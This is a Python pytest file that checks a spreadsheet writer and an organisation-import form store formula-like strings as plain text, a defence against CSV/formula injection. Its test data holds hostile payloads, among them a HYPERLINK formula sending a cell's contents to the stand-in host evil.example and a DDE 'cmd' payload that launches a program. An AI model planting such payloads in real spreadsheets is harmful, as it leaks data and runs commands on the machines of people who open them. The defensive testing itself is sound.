"""Formula injection: a text starting with =, +, - or @ is written to every spreadsheet as
text, never as a formula (OWASP "CSV injection"), and reads back unchanged."""

from __future__ import annotations

import datetime
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kaohe import spreadsheets
from kaohe.org.importer import read_source, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "=cmd|' /C calc'!A0", "\t=1+1"]


def _formulas(path: Path) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets."""
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_table_writer_stores_text(tmp_path: Path, text: str) -> None:
    target = tmp_path / "t.xlsx"
    spreadsheets.workbook([("表", ["姓名", "得分", "日期"],
                            [[text, 90, datetime.date(2025, 10, 1)]])], target)
    assert _formulas(target) == []
    sheet = load_workbook(target).active
    assert sheet is not None
    assert sheet["A2"].value == text and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 90 and sheet["B2"].data_type == "n"


def test_the_import_form_keeps_hostile_names_as_text(tmp_path: Path) -> None:
    data = {
        "organ": {"code": "o", "name": HOSTILE[0]},
        "sections": [{"code": "a", "name": HOSTILE[1], "frontline": True}],
        "people": [{"id": "P1", "name": HOSTILE[3], "section": "a", "category": "staff",
                    "title": HOSTILE[4], "since": "2020-01-01"}],
    }
    target = tmp_path / "organ.xlsx"
    write_xlsx(target, data)
    assert _formulas(target) == []
    read = read_source(target).data
    assert read["organ"]["name"] == HOSTILE[0]
    assert read["sections"][0]["name"] == HOSTILE[1]
    assert read["sections"][0]["frontline"] is True
    assert read["people"][0]["name"] == HOSTILE[3]
    assert read["people"][0]["title"] == HOSTILE[4]
